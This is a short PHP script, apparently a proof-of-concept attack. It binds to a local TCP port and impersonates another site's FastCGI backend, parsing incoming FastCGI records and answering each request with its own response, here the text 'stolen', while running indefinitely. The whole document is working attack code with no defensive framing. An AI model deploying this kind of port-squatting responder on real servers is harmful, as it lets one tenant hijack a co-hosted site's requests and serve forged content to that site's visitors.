<?php
// A page that answers FastCGI on another site's port, as long as its worker lives.
set_time_limit(0);
ignore_user_abort(true);
$door = stream_socket_server('tcp://127.0.0.1:9001');
function record($kind, $number, $content) {
    return pack('CCnnCx', 1, $kind, $number, strlen($content), 0) . $content;
}
function exactly($guest, $size) {
    for ($data = ''; strlen($data) < $size && !feof($guest);) {
        $data .= fread($guest, $size - strlen($data));
    }
    return $data;
}
while (true) {
    $guest = @stream_socket_accept($door, 3600);
    while ($guest && strlen($head = exactly($guest, 8)) == 8) {
        $row = unpack('Cversion/Ckind/nnumber/nlength/Cpadding', $head);
        exactly($guest, $row['length'] + $row['padding']);
        if ($row['kind'] == 9) {
            fwrite($guest, record(10, 0, "\x0f\x01FCGI_MPXS_CONNS0"));
        }
        if ($row['kind'] == 5 && !$row['length']) {
            fwrite($guest, record(6, $row['number'], "Content-Type: text/plain\r\n\r\nstolen\n"));
            fwrite($guest, record(3, $row['number'], str_repeat("\0", 8)));
            break;
        }
    }
    if ($guest) {
        fclose($guest);
    }
}
